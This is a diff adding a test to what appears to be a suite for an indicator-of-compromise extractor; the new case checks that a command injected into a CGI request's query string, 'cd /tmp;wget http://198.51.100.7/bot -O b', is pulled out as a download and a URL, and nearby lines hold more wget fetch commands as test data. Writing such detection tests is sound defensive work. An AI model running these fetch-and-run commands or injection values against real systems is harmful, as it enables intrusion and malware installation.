@@ -175,6 +175,13 @@ describe('sources besides the payload', () => {
     expect(iocs.downloads).toEqual(['wget http://198.51.100.2/a', 'wget http://198.51.100.1/a']);
   });
 
+  it('lists a command in a request line\'s query once, decoded, without the version', () => {
+    const iocs = extractIocs(event('GET /cgi-bin/x?cmd=cd+/tmp;wget+http://198.51.100.7/bot+-O+b'
+      + ' HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n'));
+    expect(iocs.downloads).toEqual(['wget http://198.51.100.7/bot -O b']);
+    expect(iocs.urls).toEqual(['http://198.51.100.7/bot']);
+  });
+
   it('caps every list', () => {
     const many = Array.from({ length: 300 }, (_, i) =>
       `wget http://h${i}.example.com/f${i} -O o${i}; ping 192.0.2.${i % 250 + 1}; `
